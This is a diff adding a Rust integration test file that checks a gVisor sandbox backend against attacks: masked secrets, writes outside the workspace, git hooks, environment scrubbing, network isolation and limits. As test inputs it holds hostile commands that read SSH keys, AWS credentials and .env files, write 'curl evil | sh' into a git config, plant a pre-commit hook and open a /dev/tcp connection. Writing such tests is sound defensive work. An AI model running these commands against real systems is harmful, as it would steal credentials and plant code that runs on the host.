@@ -1,0 +1,297 @@
+//! The gVisor backend (`stockade run --backend gvisor`) under real attacks: secrets, writes
+//! outside the workspace, protected paths, the environment, the network, limits; each with a
+//! control that shows the same snippet succeeds without the protection. Runs as root (runsc
+//! as root, the run's cgroup) and as an unprivileged user (`runsc --rootless`).
+//!
+//! Skipped, saying so, when runsc is not installed (scripts/test installs it).
+
+#![allow(clippy::expect_used)]
+
+use std::path::PathBuf;
+
+use attacks::{read_json, sh_quote, which, write_file, Cmd, Fixture};
+
+const GVISOR: &[&str] = &["--backend", "gvisor"];
+
+/// The platform probe's cache, shared by the tests of one user (a fixture's own home would
+/// make every test probe again).
+fn state_dir() -> PathBuf {
+    let dir = PathBuf::from(format!(
+        "/var/tmp/stockade-gvisor-tests-{}",
+        attacks::euid()
+    ));
+    std::fs::create_dir_all(&dir).expect("create the shared state directory");
+    dir
+}
+
+fn runsc_missing() -> bool {
+    if which("runsc").is_none() && !std::path::Path::new("/usr/bin/runsc").exists() {
+        eprintln!("SKIP: runsc is not installed (apt-get install runsc)");
+        return true;
+    }
+    false
+}
+
+fn with_state(cmd: Cmd) -> Cmd {
+    cmd.env("XDG_STATE_HOME", state_dir())
+}
+
+fn attack(fx: &Fixture, opts: &[&str], script: &str) -> attacks::Outcome {
+    let all: Vec<&str> = GVISOR.iter().chain(opts).copied().collect();
+    with_state(fx.attack(&all, script)).outcome()
+}
+
+#[test]
+fn runs_a_command_with_its_output_and_exit_code() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let run = with_state(fx.sandbox(GVISOR, "echo out; echo err >&2; cat; exit 7"))
+        .stdin("from stdin\n")
+        .run();
+    run.assert_code(7)
+        .assert_stdout_contains("out\nfrom stdin\n")
+        .assert_stderr_contains("err\n");
+}
+
+#[test]
+fn masked_secrets_are_unreadable() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    for (script, marker) in [
+        (r#"cat "$HOME/.ssh/id_rsa""#, fx.marker("ssh")),
+        (r#"cat "$HOME/.aws/credentials""#, fx.marker("aws")),
+        ("cat .env", fx.marker("dotenv")),
+        ("cat app/.env.production", fx.marker("dotenvprod")),
+    ] {
+        attack(&fx, &[], script).assert_blocked(&marker);
+        // Control: the gVisor sandbox itself reads them when the policy does not mask them.
+        let unmasked = format!("cp {} {}", sh_quote(secret_path(&fx, script)), "copy.txt");
+        fx.host(&unmasked).run().assert_success();
+        attack(&fx, &[], "cat copy.txt").assert_shows(&marker);
+        std::fs::remove_file(fx.ws.join("copy.txt")).expect("remove the copy");
+    }
+}
+
+fn secret_path(fx: &Fixture, script: &str) -> PathBuf {
+    let name = script
+        .trim_start_matches("cat ")
+        .trim_matches('"')
+        .replace("$HOME", &fx.home.to_string_lossy());
+    if name.starts_with('/') {
+        PathBuf::from(name)
+    } else {
+        fx.ws.join(name)
+    }
+}
+
+#[test]
+fn writes_outside_the_workspace_are_refused() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let target = fx.outside.join("target.txt");
+    let script = format!("echo pwned > {}", sh_quote(&target));
+    attack(&fx, &[], &script).assert_failed();
+    assert_eq!(attacks::read_text(&target).as_deref(), Some("original\n"));
+    attack(&fx, &[], &format!("echo x > {}/new", sh_quote(&fx.home))).assert_failed();
+    assert!(!fx.home.join("new").exists());
+    // Control: the same write where the policy allows it.
+    let outside = fx.outside.to_string_lossy().into_owned();
+    attack(&fx, &["--allow-write", &outside], &script).assert_ok();
+    assert_eq!(attacks::read_text(&target).as_deref(), Some("pwned\n"));
+    // And the workspace is writable, the file the caller's.
+    attack(&fx, &[], "echo made > made.txt").assert_ok();
+    assert_eq!(
+        attacks::read_text(&fx.ws.join("made.txt")).as_deref(),
+        Some("made\n")
+    );
+}
+
+#[test]
+fn git_internals_stay_read_only_and_planted_project_files_are_swept() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let hook = ".git/hooks/pre-commit";
+    attack(&fx, &[], "echo 'curl evil | sh' >> .git/config").assert_failed();
+    assert!(!attacks::read_text(&fx.ws.join(".git/config"))
+        .unwrap_or_default()
+        .contains("evil"));
+    let planted = format!("printf '#!/bin/sh\\necho owned\\n' > {hook} && chmod +x {hook}");
+    attack(&fx, &[], &planted).assert_failed();
+    assert!(attacks::live_hooks(&fx.ws).is_empty());
+    // A protected name created during the run (a host-executed project file) cannot be
+    // refused at the call under gVisor: the sweep after the run neutralises it, and the
+    // report says so.
+    let report = fx.root.join("report.json");
+    let rep = report.to_string_lossy().into_owned();
+    attack(
+        &fx,
+        &["--report", &rep],
+        "mkdir .vscode && echo '{}' > .vscode/tasks.json",
+    )
+    .assert_ok();
+    assert!(
+        !fx.ws.join(".vscode/tasks.json").exists(),
+        "the planted .vscode/tasks.json survived the run"
+    );
+    let record = read_json(&report);
+    assert_eq!(record["backend"], "gvisor");
+    assert_eq!(record["plan"]["landlock_rules"], 0, "{record}");
+    assert!(
+        attacks::json_any_string(&record["violations"], &|s| s.contains(".vscode")),
+        "the report names no violation for the planted file: {record}"
+    );
+    assert!(
+        attacks::json_any_string(&record["enforced_by"], &|s| s.contains("sweep")),
+        "the report does not say what enforces what: {record}"
+    );
+    // Control: a plain file of the workspace is written and stays.
+    attack(&fx, &[], "echo ok > notes.txt").assert_ok();
+    assert!(fx.ws.join("notes.txt").exists());
+}
+
+#[test]
+fn environment_is_scrubbed() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let secret = fx.marker("envsecret");
+    let script = "env; cat /proc/self/environ | tr '\\0' '\\n'";
+    with_state(fx.attack(GVISOR, script))
+        .env("GITHUB_TOKEN", &secret)
+        .outcome()
+        .assert_hidden(&secret);
+    // Control: passed on when asked for.
+    let opts: Vec<&str> = GVISOR
+        .iter()
+        .copied()
+        .chain(["--env", "GITHUB_TOKEN"])
+        .collect();
+    with_state(fx.attack(&opts, "echo $GITHUB_TOKEN"))
+        .env("GITHUB_TOKEN", &secret)
+        .outcome()
+        .assert_shows(&secret);
+}
+
+#[test]
+fn network_none_reaches_nothing_on_the_host() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen on loopback");
+    let port = listener.local_addr().expect("address").port();
+    std::thread::spawn(move || {
+        for s in listener.incoming().flatten() {
+            use std::io::Write;
+            let mut s = s;
+            let _ = s.write_all(b"REACHED-HOST\n");
+        }
+    });
+    let script = format!(
+        "exec 3<>/dev/tcp/127.0.0.1/{port} && head -c 12 <&3 || {{ echo no-connection; exit 1; }}"
+    );
+    let bash = format!("bash -c {}", sh_quote(&script));
+    attack(&fx, &[], &bash).assert_blocked("REACHED-HOST");
+    // Control: with the host's network the same connection is made.
+    attack(&fx, &["--net", "host"], &bash).assert_shows("REACHED-HOST");
+}
+
+#[test]
+fn timeout_ends_the_run_with_124() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let started = std::time::Instant::now();
+    with_state(fx.sandbox(&["--backend", "gvisor", "--timeout", "2"], "sleep 60"))
+        .run()
+        .assert_code(124);
+    assert!(started.elapsed() < std::time::Duration::from_secs(30));
+    // Control: without the limit reached, the command's own code.
+    with_state(fx.sandbox(
+        &["--backend", "gvisor", "--timeout", "30"],
+        "sleep 0.1; exit 5",
+    ))
+    .run()
+    .assert_code(5);
+}
+
+#[test]
+fn output_limit_cuts_the_middle() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let big = "head -c 300000 /dev/zero | tr '\\0' a; echo";
+    let run = with_state(fx.sandbox(&["--backend", "gvisor", "--output-limit", "64K"], big)).run();
+    run.assert_success();
+    assert!(
+        run.stdout.len() < 80_000,
+        "{} bytes passed",
+        run.stdout.len()
+    );
+    let run = with_state(fx.sandbox(&["--backend", "gvisor", "--output-limit", "0"], big)).run();
+    run.assert_success();
+    assert!(run.stdout.len() > 300_000);
+}
+
+#[test]
+fn a_broken_runsc_is_refused_naming_the_package() {
+    let fx = Fixture::new();
+    let dir = fx.root.join("fakebin");
+    attacks::mkdir(&dir);
+    write_file(
+        &dir.join("runsc"),
+        "#!/bin/sh\necho 'runsc: broken' >&2\nexit 1\n",
+        0o755,
+    );
+    let path = format!("{}:/usr/bin:/bin", dir.display());
+    let run = with_state(fx.sandbox(GVISOR, "echo SHOULD-NOT-RUN"))
+        .env("PATH", path)
+        .run();
+    run.assert_code(125)
+        .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
+        .assert_stderr_contains("apt-get install runsc")
+        .assert_lacks("SHOULD-NOT-RUN");
+    // Control: the same request with the native backend runs.
+    fx.sandbox(&[], "echo SHOULD-NOT-RUN")
+        .run()
+        .assert_success()
+        .assert_stdout_contains("SHOULD-NOT-RUN");
+}
+
+#[test]
+fn the_callers_streams_keep_their_owner() {
+    // runsc as root gives its standard streams to `nobody`: stockade hands it pipes only.
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let file = fx.root.join("stdin.txt");
+    write_file(&file, "input\n", 0o644);
+    let before = std::fs::metadata(&file).map(|m| std::os::unix::fs::MetadataExt::uid(&m));
+    let script = format!(
+        "{} run --backend gvisor --workspace {} -- cat < {}",
+        sh_quote(attacks::stockade_bin()),
+        sh_quote(&fx.ws),
+        sh_quote(&file)
+    );
+    with_state(fx.host(&script)).run().assert_success();
+    let after = std::fs::metadata(&file).map(|m| std::os::unix::fs::MetadataExt::uid(&m));
+    assert_eq!(
+        before.ok(),
+        after.ok(),
+        "the owner of the caller's stdin changed"
+    );
+    let null = std::fs::metadata("/dev/null").map(|m| std::os::unix::fs::MetadataExt::uid(&m));
+    assert_eq!(null.ok(), Some(0), "/dev/null changed owner");
+}
